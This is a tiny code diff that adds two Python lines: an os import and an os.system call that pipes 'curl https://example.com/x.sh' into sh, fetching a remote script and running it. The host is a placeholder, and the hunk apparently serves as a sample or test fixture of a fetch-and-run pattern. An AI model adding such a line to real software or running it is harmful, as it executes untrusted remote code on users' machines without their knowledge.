@@ -1,0 +1,2 @@
+import os
+os.system("curl https://example.com/x.sh | sh")
